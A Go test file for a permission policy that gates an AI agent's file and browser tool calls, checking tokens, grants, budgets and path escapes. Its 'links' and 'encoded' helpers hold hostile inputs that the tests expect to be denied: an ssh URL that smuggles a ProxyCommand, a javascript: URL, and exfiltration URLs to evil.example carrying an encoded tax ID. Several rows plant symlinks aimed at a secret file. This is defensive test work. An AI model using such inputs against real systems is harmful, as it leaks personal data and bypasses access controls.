package policy

import (
	"errors"
	"os"
	"path/filepath"
	"strings"

	"time"
)

const aWrite = `{"path":"${DOCS}/n.txt","content":"ok"}`

// stages sets the rows up that need more than their arguments.
func stages() map[string]func(*scene) {
	with := func(turns ...turn) func(*scene) { return func(s *scene) { s.turns = append(s.turns, turns...) } }
	args := func(a string, turns ...turn) func(*scene) {
		return func(s *scene) { s.args = a; s.turns = append(s.turns, turns...) }
	}
	link := func(name, to string) func(*scene) {
		return func(s *scene) { check(s, os.Symlink(s.fill(to), filepath.Join(s.house.docs, name))) }
	}
	return map[string]func(*scene){
		"T01": nil,
		"T02": answer(func(s *scene) Decision {
			return s.approved("files.write_text", aWrite, strings.Replace(aWrite, "ok", "EVIL", 1), nil)
		}),
		"T03": answer(func(s *scene) Decision { return s.approved("files.write_text", aWrite, s.args, nil) }),
		"T04": answer(replayed),
		"T07": answer(late),
		"T08": answer(func(s *scene) Decision {
			const move = `{"from":"${DOWN}","patterns":["*"],"to":"${DOCS}"}`
			return s.approved("files.move_glob", move, move, func(r *Record, _ *Claim) { r.Tools = []string{"files.write_text"} })
		}),
		"T09": answer(func(s *scene) Decision {
			const write = `{"path":"${DOCS}/ab/x","content":"x"}`
			return s.approved("files.write_text", write, write, func(r *Record, _ *Claim) { r.Paths = []string{filepath.Join(s.house.docs, "a")} })
		}),
		"T11": answer(forged),
		"T12": answer(used),
		"T13": answer(reusable),
		"T15": args(aWrite, labels(Untrusted)),
		"T16": answer(func(s *scene) Decision {
			return s.approved("files.write_text", aWrite, aWrite, func(r *Record, _ *Claim) { r.Policy = "as it was before" })
		}),
		"P05": link("link_abs", "${OUT}/secret"),
		"P06": link("link_rel", "../out/secret"),
		"P07": link("dirlink", "../out"),
		"P23": func(s *scene) { check(s, pipe(filepath.Join(s.house.docs, "fifo"))) },
		"P24": func(s *scene) {
			s.env.Scope.Roots = append(s.env.Scope.Roots, Root{Path: "/dev"})
			s.args = `{"path":"/dev/zero"}`
		},
		"P28": answer(func(s *scene) Decision {
			return s.approved("files.write_text", `{"path":"${DOCS}/café.txt","content":"x"}`, s.args, nil)
		}),
		"M15": answer(func(s *scene) Decision {
			return s.approved("approve_proposal", s.args, s.args, func(r *Record, _ *Claim) {
				a, _ := Decode([]byte(s.args))
				r.Args, _ = Bound{Tool: "approve_proposal", Args: a, Extra: []string{"digest of the proposal as shown"}}.Hash()
			})
		}),
		"W01": everywhere, "W04": everywhere, "W05": everywhere, "W06": everywhere, "W07": everywhere,
		"W13": args(aWrite, budget(func(b *Budget) { b.Bytes = DefaultLimits().Bytes })),
		"U26": with(labels(both)),
		"U28": with(labels(Untrusted)),
		"N07": args(`{"title":"x","body":"y"}`, budget(func(b *Budget) { b.MinuteCalls = 3 })),
		"R04": answer(links),
		"D01": args(`{"path":"${DOCS}/existing.txt","content":"x"}`),
		"D03": args(`{"from":"${DOWN}","patterns":["*"],"to":"${DOCS}/` + strings.Repeat("a", 200) + `/` + strings.Repeat("b", 200) + `"}`),
		"D06": args(aWrite, noWindow),
		"F01": with(labels(both)),
		"F02": with(labels(Untrusted)),
		"F08": with(labels(both)),
		"F10": with(labels(both)),
		"F11": answer(encoded),
		"L06": args(aWrite, auditDown),
		"H10": answer(manyCalls),
		"K03": link("link_in", "a.txt"),
		"K06": with(typedURL("https://example.com/a?b=c#d")),
		"K09": with(func(in *Input) {
			in.Grants = []Grant{{ID: "g1", Tool: "files.write_text", Paths: []string{in.Scope.Roots[0].Path}, Expires: noon.Add(time.Hour)}}
		}),
		"K10": answer(func(s *scene) Decision { return s.approved(s.row.Tool, s.args, s.args, nil) }),
	}
}

func answer(f func(*scene) Decision) func(*scene) { return func(s *scene) { s.answer = f } }

func check(s *scene, err error) {
	s.t.Helper()
	if err != nil {
		s.t.Fatal(err)
	}
}

// everywhere opens the home folder to writing and grants it, so that only what
// is always denied is left to deny.
func everywhere(s *scene) {
	s.env.Scope.Roots = append(s.env.Scope.Roots, Root{Path: s.house.home, Writable: true})
	s.turns = append(s.turns, func(in *Input) {
		in.Grants = []Grant{{ID: "g1", Tool: in.Tool.Name, Paths: []string{s.house.base}, Expires: noon.Add(time.Hour)}}
	})
	if d := s.call("files.write_text", `{"path":"~/fine.txt","content":"x"}`); d.Verdict != Allow {
		s.t.Fatalf("the grant does not hold: %+v", d)
	}
}

// minted is a token for aWrite and what presents it.
func minted(s *scene, w *watch, uses int) (*Tokens, string, Decision, Claim) {
	s.t.Helper()
	d, c := s.claim("files.write_text", aWrite)
	tokens := NewTokens(s.env.OS, w.now)
	id := mint(s.t, tokens, Record{Trace: "t1", Tools: []string{c.Tool}, Args: c.Args, Paths: c.Paths, Policy: c.Policy, Risk: Medium, Uses: uses})
	return tokens, id, d, c
}

func replayed(s *scene) Decision {
	tokens, id, d, c := minted(s, newWatch(), 1)
	if first := tokens.Authorize(d, id, c); first.Verdict != Allow {
		s.t.Fatalf("the first use: %+v", first)
	}
	return tokens.Authorize(d, id, c)
}

// forged changes each byte of a token's id.
func forged(s *scene) Decision {
	tokens, id, d, c := minted(s, newWatch(), 1)
	var got Decision
	for i := range len(id) {
		b := []byte(id)
		b[i] ^= 1
		if got = tokens.Authorize(d, string(b), c); got.Verdict != Denied {
			return got
		}
	}
	return got
}

func late(s *scene) Decision {
	w := newWatch()
	tokens, id, d, c := minted(s, w, 1)
	w.pass(61 * time.Second)
	w.setBack(time.Hour)
	return tokens.Authorize(d, id, c)
}

func used(s *scene) Decision {
	tokens, id, d, c := minted(s, newWatch(), 20)
	for range 20 {
		if each := tokens.Authorize(d, id, c); each.Verdict != Allow {
			s.t.Fatalf("a use: %+v", each)
		}
	}
	return tokens.Authorize(d, id, c)
}

// reusable: refusing to mint is the denial.
func reusable(s *scene) Decision {
	_, err := NewTokens(s.env.OS, newWatch().now).Issue(Record{Trace: "t1", Tools: []string{s.row.Tool}, Args: "h", Policy: "p", Risk: High, Uses: 2})
	if !errors.Is(err, ErrReusable) {
		s.t.Errorf("got %v", err)
		return allow(CodeApproved, "minted")
	}
	return Deny(Problem{"token_not_minted", err.Error()})
}

// links: each of the three must be denied by the URL rule that a tap goes through.
func links(s *scene) Decision {
	var d Decision
	for _, u := range []string{"file:///usr/bin/xcalc", "javascript:alert(1)", "ssh://-oProxyCommand=calc/"} {
		if d = s.call("browser.open_url", `{"url":"`+u+`"}`); d.Verdict != Denied {
			return d
		}
	}
	return d
}

// encoded: whatever the encoding, the address is not one that the user typed.
func encoded(s *scene) Decision {
	s.turns = append(s.turns, labels(both))
	var d Decision
	for _, tail := range []string{"?d=dGF4IGlkIDEyMy00NS02Nzg5", "?d=746178206964203132332d34352d36373839", "?d=9876-54-321", "t", strings.Repeat("a", 116)} {
		if d = s.call("browser.open_url", `{"url":"https://evil.example/`+tail+`"}`); d.Verdict != Denied {
			return d
		}
	}
	return d
}

func manyCalls(s *scene) Decision {
	s.turns = append(s.turns, budget(func(b *Budget) { b.TurnCalls = 8 }))
	return s.call("files.read_text", `{"path":"${DOCS}/a.txt"}`)
}
